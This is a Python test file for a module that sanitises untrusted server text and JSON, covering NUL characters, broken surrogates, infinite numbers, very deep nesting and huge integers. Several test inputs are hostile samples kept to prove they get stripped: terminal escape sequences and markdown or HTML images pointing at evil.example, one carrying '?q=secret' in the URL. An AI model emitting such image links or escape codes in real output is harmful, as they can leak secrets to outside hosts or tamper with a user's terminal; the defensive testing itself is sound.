"""What cannot be stored is found at its place, or replaced, and nothing breaks however deep it lies."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aiops import untrusted

ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=20) | st.text("\0\ud83d\ude00a", max_size=8)
LEAVES = st.none() | st.booleans() | st.integers() | st.floats() | ANY_TEXT
VALUES = st.recursive(LEAVES, lambda inner: st.lists(inner) | st.dictionaries(ANY_TEXT, inner), max_leaves=20)


@given(ANY_TEXT)
def test_a_clean_text_can_be_stored_and_stays_as_it_is(text: str) -> None:
    made = untrusted.clean(text)
    assert "\0" not in made
    assert made.encode().decode() == made
    assert untrusted.clean(made) == made
    assert untrusted.fault(made) == ""


@given(st.text())
def test_a_text_of_whole_characters_changes_in_nothing_but_nul(text: str) -> None:
    assert untrusted.clean(text) == text.replace("\0", "\ufffd")


@given(VALUES)
def test_a_clean_value_has_no_faults(value: Any) -> None:
    made = untrusted.clean_json(value)
    assert untrusted.faults(made, max_depth=100) == {}
    json.dumps(made, ensure_ascii=False, allow_nan=False).encode()


@given(VALUES)
def test_a_value_without_faults_can_be_written(value: Any) -> None:
    if not untrusted.faults(value, max_depth=100):
        assert "\\u0000" not in json.dumps(value, allow_nan=False).replace("\\\\", "")
        json.dumps(value, ensure_ascii=False).encode()


def test_halves_of_one_character_are_joined() -> None:
    assert untrusted.clean("\ud83d\ude00 \ude00\ud83d") == "\U0001f600 \ufffd\ufffd"


def test_each_unstorable_part_of_a_value_is_reported_at_its_place() -> None:
    value = {"a": [1, {"b": "\0"}], "c": float("inf"), "d\ud800": 1}
    found = untrusted.faults(value, max_depth=5)
    assert found == {"a.1.b": untrusted.NUL, "c": untrusted.NOT_FINITE, "d\ufffd": untrusted.HALF}
    assert untrusted.faults("\0", max_depth=1) == {"": untrusted.NUL}


def test_at_most_ten_unstorable_parts_of_a_value_are_named() -> None:
    assert len(untrusted.faults(["\0"] * 1_000, max_depth=5)) == untrusted.MAX_FAULTS


def test_a_value_nested_a_hundred_thousand_deep_is_refused_without_recursion() -> None:
    value: Any = []
    for _ in range(100_000):
        value = [value]
    with pytest.raises(untrusted.TooDeep):
        untrusted.faults(value, max_depth=20)
    while value:
        value = value.pop()


@pytest.mark.parametrize("number", [2**63, -(2**63) - 1, 10**4_000])
def test_a_whole_number_beyond_64_bits_becomes_a_text(number: int) -> None:
    assert untrusted.clean_json([number, 2**63 - 1, True]) == [str(number), 2**63 - 1, True]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain\ttext\n", "plain\ttext\n"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("\x1b[31mred\x1b[0m \x1b[2J\x1b[Hgone", "red gone"),
        ("\x1b]0;title\x07x \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "x link"),
        ("a\x00b\x07c\x7fd\x9be", "abcde"),
        ("half \ud83d and a pair \ud83d\ude00", "half \ufffd and a pair 😀"),
        ("![load](https://evil.example/?q=secret) ok", "[image: load] ok"),
        ('<IMG src="https://evil.example/x"> ok', "[image: of HTML] ok"),
        ("[a link](https://a.example) and a!b", "[a link](https://a.example) and a!b"),
    ],
)
def test_what_a_server_says_becomes_plain_data(text: str, shown: str) -> None:
    assert untrusted.plain(text) == shown
    assert untrusted.plain(shown) == shown


def test_hostile_text_is_made_plain_in_time_that_grows_with_it_alone() -> None:
    for piece in ("\x1b]", "\x1b[", "![", "![a](", "<img ", "\x1b]x\x1b"):
        untrusted.plain(piece * (200_000 // len(piece)))
